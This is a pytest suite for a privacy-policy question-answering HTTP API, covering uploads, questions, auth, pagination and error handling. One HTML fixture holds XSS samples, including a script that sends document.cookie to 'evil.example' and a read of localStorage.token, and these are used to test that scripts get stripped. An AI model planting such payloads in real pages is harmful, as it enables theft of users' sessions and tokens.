"""The HTTP API in-process (TestClient, fake encoder): every route and every error it promises."""

from __future__ import annotations

import dataclasses
import sqlite3
import threading
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import numpy as np
import pytest
from fastapi.testclient import TestClient

from api.main import create_app
from conftest import DATA, FakeEncoder
from nlp.config import AnswerSettings, ApiSettings, EmbedSettings, Settings
from nlp.embed import BatchingEncoder
from nlp.pipeline import PolicyLens

KEY = "test-key"
AUTH = {"X-API-Key": KEY}
SEED = DATA / "quillnote.md"

ACME = """Acme Privacy Policy

Last updated: March 3, 2024

Information we collect

We collect your e-mail address and your phone number when you create an account.

Retention

We keep your payment card details for 90 days after your last order.

Sharing

We share your e-mail address with advertising partners.

We never sell your personal information to data brokers.
"""

TWO_VERSIONS = """Zeta Privacy Policy

New Version (Effective as of February 27, 2021)

Retention

We keep your chat logs for 30 days.

We share your chat logs with moderators.

You can download your chat history from the settings page.

Old version (Effective as of January 17, 2019)

Retention

We keep your chat logs for 5 years.

We share your chat logs with moderators.

You can download your chat history from the settings page.
"""


class KeywordClassifier:
    """Labels by keyword, with the ``predict(texts, embeddings=)`` interface of ClauseClassifier."""

    def predict(self, texts, *, embeddings):
        assert len(texts) == len(embeddings)
        out = []
        for t in texts:
            t = t.lower()
            labels = [lab for word, lab in (("collect", "collection"), ("share", "sharing"),
                                            ("keep", "retention")) if word in t]
            out.append(tuple(labels))
        return out

    def label_clauses(self, clauses, encoder):
        texts = [c.text for c in clauses]
        labels = self.predict(texts, embeddings=encoder.encode(texts))
        return [dataclasses.replace(c, labels=lab) for c, lab in zip(clauses, labels, strict=True)]


def make_settings(tmp_path: Path, **api) -> Settings:
    api = {"api_key": KEY, "db": tmp_path / "api.sqlite3", "max_upload_bytes": 100_000,
           "allowed_hosts": ["testserver", "127.0.0.1"], **api}
    # The fake encoder's cosines are lower than the real model's: accept weaker support.
    return Settings(embed=EmbedSettings(use_cache=False), answer=AnswerSettings(min_support=0.1),
                    api=ApiSettings(**api))


def make_client(settings: Settings, encoder=None, **kw) -> TestClient:
    kw.setdefault("seed", SEED)
    # No trained classifier from models/: labels come only from a test's own classifier.
    lens = PolicyLens(settings, encoder=encoder or FakeEncoder(), classifier=None)
    app = create_app(settings, lens=lens, **kw)
    # Server errors must come back as responses (the JSON 500), not as exceptions in the test.
    return TestClient(app, raise_server_exceptions=False)


@pytest.fixture
def settings(tmp_path) -> Settings:
    return make_settings(tmp_path)


@pytest.fixture
def client(settings):
    with make_client(settings) as c:
        yield c


def upload(client: TestClient, text: str = ACME, name: str = "Acme", **extra):
    return client.post("/v1/policies", json={"name": name, "text": text, **extra}, headers=AUTH)


def assert_error(r, status: int, code: str) -> dict:
    assert r.status_code == status, r.text
    assert r.headers["content-type"].startswith("application/json")
    err = r.json()["error"]
    assert err["code"] == code
    assert err["message"]
    assert "Traceback" not in r.text
    return err


def tiny_pdf(lines: list[str]) -> bytes:
    """A one-page PDF with ``lines`` of Helvetica text (offsets in the xref computed)."""
    text = " ".join(f"({line}) Tj T*" for line in lines)
    content = f"BT /F1 12 Tf 72 720 Td 16 TL {text} ET"
    objects = [
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        "/Resources << /Font << /F1 5 0 R >> >> >>",
        f"<< /Length {len(content)} >>\nstream\n{content}\nendstream",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = b"%PDF-1.4\n"
    offsets = []
    for i, obj in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{i} 0 obj\n{obj}\nendobj\n".encode()
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{off:010d} 00000 n \n".encode() for off in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return out


# --- health ---------------------------------------------------------------------------------


def test_health_and_readiness(client):
    assert client.get("/healthz").json() == {"status": "ok"}
    r = client.get("/readyz")
    assert r.status_code == 200
    assert r.json() == {
        "status": "ready",
        "checks": {"started": True, "models_loaded": True, "store": True},
    }


def test_readiness_fails_when_the_store_does_not_answer(client, monkeypatch):
    monkeypatch.setattr(client.app.state.service.store, "ping", lambda: False)
    r = client.get("/readyz")
    assert r.status_code == 503
    assert r.json()["checks"]["store"] is False
    assert client.get("/healthz").status_code == 200  # the process is still up


# --- ask ------------------------------------------------------------------------------------


def test_ask_without_policy_answers_from_the_seed_like_the_library(client, settings):
    r = client.post("/v1/ask", json={"question": "Do you collect my precise location?"})
    assert r.status_code == 200
    body = r.json()
    lens = PolicyLens(settings, encoder=FakeEncoder(), classifier=None)
    lens.load(SEED)
    expected = lens.ask("Do you collect my precise location?").to_dict()
    assert body == expected  # the same object as `policylens ask --json`
    assert body["policy"] == "quillnote"
    assert body["verdict"] == "no"
    assert "precise location" in body["citations"][0]["text"]


def test_bundled_seed_is_the_default_policy_and_answers_like_the_cli(tmp_path):
    settings = make_settings(tmp_path)
    with make_client(settings, seed=True) as c:
        r = c.post("/v1/ask", json={"question": "Is my data sent to China?", "top_k": 2})
        lens = PolicyLens(settings, encoder=FakeEncoder(), classifier=None)
        expected = lens.ask("Is my data sent to China?", top_k=2).to_dict()
        assert r.status_code == 200
        assert r.json() == expected
        seed = c.get(f"/v1/policies/{expected['policy']}").json()
        assert seed["seed"] is True
        assert [v["label"] for v in seed["versions"]] == ["2020-02-27", "2019-01-17"]


def test_ask_an_uploaded_policy_cites_its_clause(client):
    pid = upload(client).json()["id"]
    r = client.post("/v1/ask", json={"question": "How long do you keep my payment card details?",
                                     "policy": pid, "top_k": 2})
    assert r.status_code == 200
    body = r.json()
    assert body["policy"] == pid
    assert body["version"] == "2024-03-03"
    assert "90 days" in body["citations"][0]["text"]
    assert len(body["citations"]) <= 2
    c = body["citations"][0]
    text = client.app.state.service.lens.policy(pid).latest.text
    assert text[c["start"]:c["end"]] == c["text"]  # offsets point into the clean text


def test_ask_a_named_version(client):
    pid = upload(client, TWO_VERSIONS, "Zeta").json()["id"]
    q = {"question": "How long do you keep my chat logs?", "policy": pid}
    latest = client.post("/v1/ask", json=q).json()
    oldest = client.post("/v1/ask", json={**q, "version": "2019"}).json()
    assert latest["version"] == "2021-02-27" and "30 days" in latest["citations"][0]["text"]
    assert oldest["version"] == "2019-01-17" and "5 years" in oldest["citations"][0]["text"]
    assert_error(client.post("/v1/ask", json={**q, "version": "1999"}), 404, "not_found")


@pytest.mark.parametrize(
    ("body", "status", "code"),
    [
        ({"question": 3}, 422, "validation_error"),
        ({}, 422, "validation_error"),
        ({"question": ""}, 422, "validation_error"),
        ({"question": "   "}, 422, "invalid_input"),
        ({"question": "x" * 1001}, 422, "invalid_input"),
        ({"question": "Do you sell data?", "top_k": 0}, 422, "validation_error"),
        ({"question": "Do you sell data?", "top_k": 51}, 422, "invalid_input"),
        ({"question": "Do you sell data?", "top_k": "many"}, 422, "validation_error"),
        ({"question": "Do you sell data?", "colour": "red"}, 422, "validation_error"),
        ({"question": "Do you sell data?", "policy": "nope"}, 404, "not_found"),
        (["Do you sell data?"], 422, "validation_error"),
    ],
)
def test_bad_questions_get_clear_json_errors(client, body, status, code):
    assert_error(client.post("/v1/ask", json=body), status, code)


def test_validation_errors_say_where(client):
    err = assert_error(client.post("/v1/ask", json={"question": 3}), 422, "validation_error")
    assert err["fields"][0]["loc"] == ["body", "question"]
    assert "question" in err["message"]


def test_malformed_json_is_400(client):
    r = client.post("/v1/ask", content=b'{"question": "a",', headers={"content-type":
                                                                     "application/json"})
    assert_error(r, 400, "malformed_json")


def test_unknown_routes_and_methods_are_json(client):
    assert_error(client.get("/v1/nothing"), 404, "not_found")
    assert_error(client.put("/v1/ask", json={}), 405, "method_not_allowed")


# --- uploads ----------------------------------------------------------------------------------


def test_upload_json_returns_the_policy_with_versions_and_clause_count(client):
    r = upload(client, source_url="https://acme.example/privacy")
    assert r.status_code == 201
    body = r.json()
    assert body["id"] == "acme"
    assert body["name"] == "Acme"
    assert body["source_url"] == "https://acme.example/privacy"
    assert body["clause_count"] == 5
    assert body["versions"] == [{"label": "2024-03-03", "effective_date": "2024-03-03",
                                 "title": "Acme Privacy Policy", "chars": body["versions"][0]
                                 ["chars"], "clause_count": 5, "language": "en",
                                 "date_source": "text"}]
    assert body["language"] == "en" and body["language_supported"] is True
    assert client.get("/v1/policies/acme").json() == body


GERMAN = """Datenschutzerklärung der Beispiel GmbH

Welche Daten wir erheben

Wir erheben Ihre E-Mail-Adresse und Ihre Telefonnummer, wenn Sie ein Konto anlegen.

Wir speichern Ihre Zahlungsdaten für 90 Tage nach Ihrer letzten Bestellung.

Weitergabe

Wir geben Ihre E-Mail-Adresse an Werbepartner weiter. Wir verkaufen Ihre personenbezogenen
Daten niemals an Datenhändler.
"""


def test_a_german_upload_keeps_its_language_and_warning_in_the_store(client):
    r = upload(client, GERMAN, name="Beispiel")
    assert r.status_code == 201, r.text
    body = r.json()
    assert (body["language"], body["language_supported"]) == ("de", False)
    assert body["versions"][0]["language"] == "de"
    assert any("German" in w and "unreliable" in w for w in body["warnings"]), body["warnings"]
    assert client.get(f"/v1/policies/{body['id']}").json() == body  # read back from the store
    clauses = client.get(f"/v1/policies/{body['id']}/clauses", headers=AUTH).json()["items"]
    assert clauses and {c["language"] for c in clauses} == {"de"}


def test_same_text_twice_is_stored_once(client):
    first = upload(client)
    again = upload(client)
    renamed = upload(client, name="Acme Inc")  # same text, another name: still the same policy
    as_file = client.post("/v1/policies", files={"file": ("acme.txt", ACME.encode())},
                          headers=AUTH)
    assert first.status_code == 201
    assert [r.status_code for r in (again, renamed, as_file)] == [200, 200, 200]
    assert {r.json()["id"] for r in (first, again, renamed, as_file)} == {"acme"}
    assert client.get("/v1/policies").json()["total"] == 2  # the seed and Acme


def test_different_policies_with_one_name_get_distinct_ids(client):
    a = upload(client).json()["id"]
    b = upload(client, ACME.replace("90 days", "120 days")).json()["id"]
    assert a == "acme" and b.startswith("acme-") and b != a


@pytest.mark.parametrize(
    ("filename", "content", "fmt"),
    [
        ("acme.md", b"# Acme Privacy\n\n## Sharing\n\nWe share your e-mail address with "
                    b"advertising partners.\n\n- your name;\n- your phone number.\n", "md"),
        ("brightleaf.html", (DATA / "brightleaf.html").read_bytes(), "html"),
        ("parcelpath.txt", (DATA / "parcelpath.txt").read_bytes(), "txt"),
        ("scan.pdf", tiny_pdf(["Acme Privacy Policy", "",
                               "We share your e-mail address with advertising partners.",
                               "We keep your logs for 30 days."]), "pdf"),
    ],
)
def test_upload_files(client, filename, content, fmt):
    r = client.post("/v1/policies", files={"file": (filename, content)},
                    data={"source_url": "https://x.example"}, headers=AUTH)
    assert r.status_code == 201, r.text
    body = r.json()
    assert body["format"] == fmt
    assert body["clause_count"] > 0
    assert body["source_url"] == "https://x.example"
    clauses = client.get(f"/v1/policies/{body['id']}/clauses", params={"version": "all",
                                                                      "limit": 200}).json()
    assert clauses["total"] == body["clause_count"]


def test_pdf_upload_can_be_asked(client):
    pdf = tiny_pdf(["Acme Privacy Policy", "", "We keep your server logs for 30 days."])
    pid = client.post("/v1/policies", files={"file": ("p.pdf", pdf, "application/pdf")},
                      data={"name": "Pdf Co"}, headers=AUTH).json()["id"]
    assert pid == "pdf-co"
    ans = client.post("/v1/ask", json={"question": "How long do you keep logs?",
                                       "policy": pid}).json()
    assert "30 days" in ans["citations"][0]["text"]


SCRIPTED = """<!doctype html><html><head><title>Evil Co Privacy</title>
<script>fetch('https://evil.example/?c=' + document.cookie)</script></head>
<body><h1>Evil Co Privacy Policy</h1>
<p>Last updated: March 3, 2024</p>
<h2>Sharing</h2>
<p>We share your e-mail address with advertising partners.<script>alert("xss")</script></p>
<p>We never sell your data. <img src="x" onerror="alert(1)"> <a href="javascript:alert(2)">More</a></p>
<SCRIPT type="text/javascript">var stolen = localStorage.token;</SCRIPT>
</body></html>"""


@pytest.mark.parametrize("how", ["json-html", "json-txt", "file"])
def test_scripts_are_stripped_and_never_stored(client, settings, how):
    if how == "file":
        r = client.post("/v1/policies", files={"file": ("evil.html", SCRIPTED.encode())},
                        headers=AUTH)
    else:
        fmt = "html" if how == "json-html" else "txt"
        r = upload(client, SCRIPTED, "Evil Co", format=fmt)
    assert r.status_code == 201, r.text
    pid = r.json()["id"]
    clauses = client.get(f"/v1/policies/{pid}/clauses", params={"version": "all"}).json()
    texts = " ".join(c["text"] + c["context"] + c["section"] for c in clauses["items"])
    assert "advertising partners" in texts
    # Nothing of any script reached the database, in any table.
    conn = sqlite3.connect(settings.api.db)
    dump = "\n".join(conn.iterdump()).lower()
    for needle in ("<script", "alert(", "document.cookie", "localstorage", "onerror",
                   "javascript:"):
        assert needle not in dump, needle


def test_markup_that_survives_cleaning_is_refused(client, settings):
    # Plain text that only pretends to be a policy around an event handler: never stored.
    text = "Sneaky Privacy\n\nWe value privacy. <b onmouseover=alert(1)>hover</b> here.\n"
    r = upload(client, text, "Sneaky", format="md")
    if r.status_code == 201:  # cleaning removed the tag: fine, as long as nothing is stored
        clauses = client.get(f"/v1/policies/{r.json()['id']}/clauses").json()["items"]
        assert all("onmouseover" not in c["text"] for c in clauses)
    else:
        assert_error(r, 422, "invalid_input")
    dump = "\n".join(sqlite3.connect(settings.api.db).iterdump()).lower()
    assert "onmouseover" not in dump


@pytest.mark.parametrize(
    ("files", "status", "code"),
    [
        ({"file": ("image.png", b"\x89PNG\r\n\x1a\n" + bytes(range(256)), "image/png")}, 415,
         "unsupported_media_type"),
        ({"file": ("blob", bytes(range(256)) * 4, "application/octet-stream")}, 415,
         "unsupported_media_type"),
        ({"file": ("binary.txt", (DATA / "binary.txt").read_bytes())}, 422, "invalid_input"),
        ({"file": ("empty.txt", b"")}, 422, "invalid_input"),
        ({"file": ("fake.pdf", b"%PDF-1.4 this is not really a pdf")}, 422, "invalid_input"),
        ({"other": ("a.txt", b"We share data.")}, 422, "validation_error"),
    ],
)
def test_bad_files_are_refused_with_json(client, files, status, code):
    r = client.post("/v1/policies", files=files, headers=AUTH)
    assert_error(r, status, code)
    assert client.get("/v1/policies").json()["total"] == 1  # only the seed


def test_bad_json_uploads(client):
    assert_error(upload(client, ""), 422, "validation_error")
    assert_error(upload(client, "   \n  "), 422, "invalid_input")
    r = client.post("/v1/policies", json={"text": ACME}, headers=AUTH)
    assert_error(r, 422, "validation_error")
    r = client.post("/v1/policies", json={"name": "A", "text": ACME, "format": "docx"},
                    headers=AUTH)
    assert_error(r, 422, "validation_error")
    r = client.post("/v1/policies", content=b"{nope", headers={**AUTH, "content-type":
                                                                "application/json"})
    assert_error(r, 400, "malformed_json")
    r = client.post("/v1/policies", content=ACME.encode(), headers={**AUTH, "content-type":
                                                                     "text/plain"})
    assert_error(r, 415, "unsupported_media_type")


def test_uploads_over_the_size_limit_are_413(client):
    big = ("We share your data with partners. " * 4000).encode()  # ~136 kB > 100 kB limit
    r = client.post("/v1/policies", files={"file": ("big.txt", big)}, headers=AUTH)
    assert_error(r, 413, "payload_too_large")
    assert_error(upload(client, big.decode()), 413, "payload_too_large")
    huge = b"x" * 300_000  # over the transport limit: refused before the app reads it
    r = client.post("/v1/policies", content=huge, headers={**AUTH, "content-type":
                                                           "application/json"})
    assert_error(r, 413, "payload_too_large")
    r = client.post("/v1/ask", content=b'{"question": "' + b"a" * 300_000 + b'"}',
                    headers={"content-type": "application/json"})
    assert_error(r, 413, "payload_too_large")
    assert client.get("/v1/policies").json()["total"] == 1


def test_streamed_body_over_the_limit_is_413(client):
    def chunks():
        for _ in range(40):
            yield b"y" * 10_000  # no Content-Length: counted as it arrives

    r = client.post("/v1/ask", content=chunks(), headers={"content-type": "application/json"})
    assert_error(r, 413, "payload_too_large")


# --- keys -------------------------------------------------------------------------------------


def test_writes_need_the_api_key(client):
    assert_error(client.post("/v1/policies", json={"name": "A", "text": ACME}), 401,
                 "unauthorized")
    r = client.post("/v1/policies", json={"name": "A", "text": ACME},
                    headers={"X-API-Key": "wrong"})
    assert_error(r, 401, "unauthorized")
    assert_error(client.delete("/v1/policies/quillnote"), 401, "unauthorized")
    assert client.get("/v1/policies").json()["total"] == 1
    # Reads stay open by default.
    assert client.get("/v1/policies").status_code == 200
    assert client.post("/v1/ask", json={"question": "Do you sell data?"}).status_code == 200


def test_server_without_a_key_refuses_all_writes(tmp_path):
    with make_client(make_settings(tmp_path, api_key=None)) as c:
        r = c.post("/v1/policies", json={"name": "A", "text": ACME}, headers=AUTH)
        err = assert_error(r, 403, "forbidden")
        assert "POLICYLENS_API_KEY" in err["message"]


def test_keyed_reads(tmp_path):
    with make_client(make_settings(tmp_path, keyed_reads=True)) as c:
        assert_error(c.get("/v1/policies"), 401, "unauthorized")
        assert_error(c.post("/v1/ask", json={"question": "Do you sell data?"}), 401,
                     "unauthorized")
        assert c.get("/v1/policies", headers=AUTH).status_code == 200
        assert c.get("/healthz").status_code == 200  # probes stay open


def test_openapi_documents_the_key_and_examples(client):
    spec = client.get("/openapi.json").json()
    assert "APIKeyHeader" in spec["components"]["securitySchemes"]
    upload_body = spec["paths"]["/v1/policies"]["post"]["requestBody"]["content"]
    assert {"application/json", "multipart/form-data"} <= set(upload_body)
    assert spec["components"]["schemas"]["AskRequest"]["examples"]
    assert spec["components"]["schemas"]["AskResponse"]["examples"]


# --- reads and deletes ------------------------------------------------------------------------


def test_list_get_and_delete(client):
    pid = upload(client).json()["id"]
    listed = client.get("/v1/policies").json()
    assert [p["id"] for p in listed["items"]] == ["quillnote", pid]
    assert listed["items"][0]["seed"] is True
    page = client.get("/v1/policies", params={"offset": 1, "limit": 1}).json()
    assert [p["id"] for p in page["items"]] == [pid] and page["total"] == 2
    assert client.delete(f"/v1/policies/{pid}", headers=AUTH).status_code == 204
    assert_error(client.get(f"/v1/policies/{pid}"), 404, "not_found")
    assert_error(client.post("/v1/ask", json={"question": "Do you sell data?", "policy": pid}),
                 404, "not_found")
    assert_error(client.delete(f"/v1/policies/{pid}", headers=AUTH), 404, "not_found")
    assert client.get("/v1/policies").json()["total"] == 1
    assert upload(client).status_code == 201  # deleted text can come back


def test_the_seed_cannot_be_deleted(client):
    assert_error(client.delete("/v1/policies/quillnote", headers=AUTH), 409, "conflict")
    assert client.post("/v1/ask", json={"question": "Do you sell data?"}).status_code == 200


def test_unknown_ids_are_404(client):
    assert_error(client.get("/v1/policies/nope"), 404, "not_found")
    assert_error(client.get("/v1/policies/nope/clauses"), 404, "not_found")
    assert_error(client.delete("/v1/policies/nope", headers=AUTH), 404, "not_found")


def test_clauses_are_paginated_in_document_order(client):
    every = client.get("/v1/policies/quillnote/clauses", params={"limit": 200}).json()
    assert every["total"] == len(every["items"]) > 10
    pages = []
    for offset in range(0, every["total"], 7):
        page = client.get("/v1/policies/quillnote/clauses",
                          params={"offset": offset, "limit": 7}).json()
        assert page["total"] == every["total"] and page["offset"] == offset
        pages += page["items"]
    assert [c["id"] for c in pages] == [c["id"] for c in every["items"]]
    assert [c["start"] for c in pages] == sorted(c["start"] for c in pages)
    assert_error(client.get("/v1/policies/quillnote/clauses", params={"limit": 201}), 422,
                 "invalid_input")
    assert_error(client.get("/v1/policies/quillnote/clauses", params={"limit": 0}), 422,
                 "validation_error")
    assert_error(client.get("/v1/policies/quillnote/clauses", params={"offset": -1}), 422,
                 "validation_error")
    assert_error(client.get("/v1/policies", params={"limit": 500}), 422, "invalid_input")


def test_clause_filters_by_text_and_version(client):
    hits = client.get("/v1/policies/quillnote/clauses", params={"q": "ENCRYPTED"}).json()
    assert hits["total"] >= 1
    assert all("encrypted" in c["text"].lower() for c in hits["items"])
    pid = upload(client, TWO_VERSIONS, "Zeta").json()["id"]
    url = f"/v1/policies/{pid}/clauses"
    assert {c["version"] for c in client.get(url).json()["items"]} == {"2021-02-27"}
    assert {c["version"] for c in client.get(url, params={"version": "oldest"}).json()
            ["items"]} == {"2019-01-17"}
    assert client.get(url, params={"version": "all"}).json()["total"] == 6
    assert_error(client.get(url, params={"version": "2005"}), 404, "not_found")


def test_labels_are_stored_and_filter_clauses(tmp_path):
    with make_client(make_settings(tmp_path), classifier=KeywordClassifier()) as c:
        pid = upload(c).json()["id"]
        sharing = c.get(f"/v1/policies/{pid}/clauses", params={"category": "sharing"}).json()
        assert [x["text"] for x in sharing["items"]] == [
            "We share your e-mail address with advertising partners."
        ]
        assert sharing["items"][0]["labels"] == ["sharing"]
        retention = c.get(f"/v1/policies/{pid}/clauses", params={"category": "retention"})
        assert "90 days" in retention.json()["items"][0]["text"]
        r = c.post("/v1/ask", json={"question": "What do you do with my e-mail address?",
                                    "policy": pid, "category": "sharing"})
        assert r.status_code == 200
        assert "advertising partners" in r.json()["citations"][0]["text"]


# --- classify ---------------------------------------------------------------------------------


def test_classify_without_a_classifier_returns_unlabelled_clauses(client):
    text = "We share your e-mail address with partners. We keep it for a year."
    r = client.post("/v1/classify", json={"text": text})
    assert r.status_code == 200
    body = r.json()
    assert body["labelled"] is False
    assert [c["text"] for c in body["clauses"]] == [
        "We share your e-mail address with partners.", "We keep it for a year."
    ]
    assert all(c["labels"] == [] for c in body["clauses"])
    assert all(text[c["start"]:c["end"]] == c["text"] for c in body["clauses"])
    assert client.get("/v1/policies").json()["total"] == 1  # nothing stored


def test_classify_labels_clauses_and_stores_nothing(tmp_path):
    with make_client(make_settings(tmp_path), classifier=KeywordClassifier()) as c:
        r = c.post("/v1/classify", json={"text": "<p>We collect your name.</p><script>x()"
                                                 "</script><p>We share it with partners.</p>",
                                         "format": "html"})
        body = r.json()
        assert body["labelled"] is True
        assert [(x["text"], x["labels"]) for x in body["clauses"]] == [
            ("We collect your name.", ["collection"]),
            ("We share it with partners.", ["sharing"]),
        ]
        assert c.get("/v1/policies").json()["total"] == 1


def test_classify_errors(client):
    assert_error(client.post("/v1/classify", json={"text": ""}), 422, "validation_error")
    assert_error(client.post("/v1/classify", json={"text": "x", "format": "pdf"}), 422,
                 "validation_error")
    big = "We share data. " * 14_000  # 210 kB: over the classify limit, under the transport's
    assert_error(client.post("/v1/classify", json={"text": big}), 413, "payload_too_large")


# --- robustness -------------------------------------------------------------------------------


def test_unexpected_errors_are_a_json_500_without_internals(client, monkeypatch):
    def boom(*args, **kwargs):
        raise RuntimeError("secret detail at /srv/internal/path.py line 42")

    monkeypatch.setattr(client.app.state.service, "ask", boom)
    r = client.post("/v1/ask", json={"question": "Do you sell data?"})
    err = assert_error(r, 500, "internal_error")
    assert "secret" not in r.text and "/srv" not in r.text and "RuntimeError" not in r.text
    assert err["fields"] is None


def test_a_failed_upload_leaves_nothing_half_written(client, settings, monkeypatch):
    service = client.app.state.service

    def fail(*args, **kwargs):
        raise RuntimeError("index full")

    monkeypatch.setattr(service.lens, "add", fail)
    assert_error(upload(client), 500, "internal_error")
    monkeypatch.undo()
    assert client.get("/v1/policies").json()["total"] == 1
    conn = sqlite3.connect(settings.api.db)
    assert conn.execute("SELECT COUNT(*) FROM policies WHERE id = 'acme'").fetchone()[0] == 0
    assert upload(client).status_code == 201  # and the same upload works afterwards


def test_restart_rebuilds_the_index_from_stored_vectors(tmp_path):
    settings = make_settings(tmp_path)
    with make_client(settings) as c:
        pid = upload(c).json()["id"]
    encoder = FakeEncoder()
    with make_client(settings, encoder=encoder) as c:
        # Only the warm-up text was encoded: every clause vector came from the store.
        assert encoder.encoded == 1
        r = c.post("/v1/ask", json={"question": "How long do you keep my payment card "
                                                "details?", "policy": pid})
        assert "90 days" in r.json()["citations"][0]["text"]
        assert c.get("/v1/policies").json()["total"] == 2


def test_restart_with_another_model_re_encodes_once_and_stores_the_vectors(tmp_path):
    settings = make_settings(tmp_path)
    with make_client(settings) as c:
        upload(c)

    class OtherModel(FakeEncoder):
        model_id = "other-model"

    first = OtherModel()
    with make_client(settings, encoder=first):
        assert first.encoded > 1
    second = OtherModel()
    with make_client(settings, encoder=second):
        assert second.encoded == 1


def test_concurrent_uploads_and_questions(client, settings):
    texts = [ACME.replace("90 days", f"{d} days") for d in range(100, 110)]
    jobs = [("upload", t) for t in texts] + [("upload", ACME)] * 4
    jobs += [("ask", f"How long do you keep my data, case {i}?") for i in range(30)]

    def run(job):
        kind, payload = job
        if kind == "upload":
            return kind, upload(client, payload)
        return kind, client.post("/v1/ask", json={"question": payload})

    with ThreadPoolExecutor(max_workers=8) as pool:
        results = list(pool.map(run, jobs[::2] + jobs[1::2]))
    assert all(r.status_code in (200, 201) for _, r in results), [r.text for _, r in results]
    ids = {r.json()["id"] for kind, r in results if kind == "upload"}
    assert len(ids) == 11  # ten distinct texts + ACME once, however the four raced
    assert client.get("/v1/policies", params={"limit": 200}).json()["total"] == 12
    conn = sqlite3.connect(settings.api.db)
    assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    for pid in ids:  # every stored policy is searchable
        r = client.post("/v1/ask", json={"question": "How long do you keep payment card "
                                                     "details?", "policy": pid})
        assert r.status_code == 200 and r.json()["citations"]


def test_short_environment_names(monkeypatch, tmp_path):
    monkeypatch.setenv("POLICYLENS_API_KEY", "from-env")
    monkeypatch.setenv("POLICYLENS_DB", str(tmp_path / "env.sqlite3"))
    s = Settings()
    assert s.api.api_key == "from-env"
    assert s.api.db == tmp_path / "env.sqlite3"
    monkeypatch.setenv("POLICYLENS_API__DB", str(tmp_path / "nested.sqlite3"))
    assert Settings().api.db == tmp_path / "nested.sqlite3"  # the full name wins


# --- batching of question vectors -------------------------------------------------------------


class SlowEncoder(FakeEncoder):
    def __init__(self) -> None:
        super().__init__()
        self.batches: list[int] = []
        self.gate = threading.Event()

    def encode(self, texts, *, batch_size=None, normalize=True):
        self.batches.append(len(texts))
        self.gate.wait(5)
        return super().encode(texts, normalize=normalize)


def test_concurrent_questions_are_encoded_in_batches():
    inner = SlowEncoder()
    enc = BatchingEncoder(inner)
    questions = [f"question number {i}" for i in range(12)]
    with ThreadPoolExecutor(max_workers=12) as pool:
        futures = [pool.submit(enc.encode_query, q) for q in questions]
        threading.Timer(0.3, inner.gate.set).start()
        vecs = [f.result(timeout=10) for f in futures]
    expected = FakeEncoder().encode(questions)
    np.testing.assert_allclose(np.vstack(vecs), expected, atol=1e-6)
    assert sum(inner.batches) == 12
    assert len(inner.batches) < 12  # the first call's wait let the others queue up
    assert enc.encode_query("question number 3") is vecs[3]  # cached
    assert enc.stats["cache_hits"] == 1 and enc.stats["queries"] == 13


def test_a_failing_batch_fails_every_waiter():
    class Broken(FakeEncoder):
        def encode(self, texts, **kw):
            raise RuntimeError("model gone")

    enc = BatchingEncoder(Broken())
    with ThreadPoolExecutor(max_workers=4) as pool:
        futures = [pool.submit(enc.encode_query, f"q{i}") for i in range(4)]
        for f in futures:
            with pytest.raises(RuntimeError, match="model gone"):
                f.result(timeout=10)


def test_questions_racing_a_delete_get_answers_or_404_never_500(client):
    pid = upload(client).json()["id"]
    q = {"question": "How long do you keep my payment card details?", "policy": pid}

    def ask(_):
        return client.post("/v1/ask", json=q).status_code

    with ThreadPoolExecutor(max_workers=6) as pool:
        futures = [pool.submit(ask, i) for i in range(30)]
        deleted = client.delete(f"/v1/policies/{pid}", headers=AUTH).status_code
        statuses = {f.result() for f in futures}
    assert deleted == 204
    assert statuses <= {200, 404}
    assert ask(0) == 404


def test_policies_stored_without_labels_are_labelled_once_at_start(tmp_path):
    settings = make_settings(tmp_path)
    with make_client(settings) as c:
        pid = upload(c).json()["id"]
        assert c.get(f"/v1/policies/{pid}/clauses", params={"category": "sharing"}).json()[
            "total"] == 0
    with make_client(settings, classifier=KeywordClassifier()) as c:
        sharing = c.get(f"/v1/policies/{pid}/clauses", params={"category": "sharing"}).json()
        assert [x["text"] for x in sharing["items"]] == [
            "We share your e-mail address with advertising partners."
        ]


def test_a_seed_parsed_differently_after_an_update_is_replaced(tmp_path, monkeypatch):
    # This test counts clause vectors; the statements' nearest-node fallback would encode their
    # unnamed phrases through the same encoder, so it is off here.
    settings = make_settings(tmp_path)
    settings = settings.model_copy(
        update={"practices": settings.practices.model_copy(update={"use_nearest": False})}
    )
    with make_client(settings) as c:
        before = c.get("/v1/policies/quillnote/clauses", params={"limit": 200}).json()["items"]
    import nlp.segment

    real = nlp.segment.segment_policy

    def drop_first(policy, settings=None):  # as if the segmenter changed between releases
        return real(policy, settings)[1:]

    monkeypatch.setattr(nlp.segment, "segment_policy", drop_first)
    encoder = FakeEncoder()
    with make_client(settings, encoder=encoder) as c:
        after = c.get("/v1/policies/quillnote/clauses", params={"limit": 200}).json()["items"]
        assert [x["id"] for x in after] == [x["id"] for x in before[1:]]
        assert c.get("/v1/policies").json()["total"] == 1
    monkeypatch.undo()
    encoder = FakeEncoder()
    with make_client(settings, encoder=encoder):
        assert encoder.encoded == len(before) + 1  # replaced again, then the warm-up
    encoder = FakeEncoder()
    with make_client(settings, encoder=encoder):
        assert encoder.encoded == 1  # unchanged: nothing re-encoded


# --- hostile input (issue 9) ------------------------------------------------------------------


@pytest.mark.parametrize("url", ["/v1/policies", "/v1/policies/quillnote/clauses"])
def test_integers_past_their_declared_bounds_are_a_422_not_a_500(client, url):
    for params in ({"offset": 9223372036854775808}, {"limit": 2**70}, {"offset": 10**10}):
        assert_error(client.get(url, params=params), 422, "validation_error")
    spec = client.get("/openapi.json").json()
    op = spec["paths"]["/v1/policies"]["get"]
    bounds = {p["name"]: p["schema"] for p in op["parameters"]}
    assert bounds["offset"]["maximum"] and bounds["limit"]["maximum"]


class GatedEncoder(FakeEncoder):
    """Holds every encode of more than one text until ``gate`` opens: uploads pile up."""

    def __init__(self) -> None:
        super().__init__()
        self.gate = threading.Event()
        self.clause_texts = 0

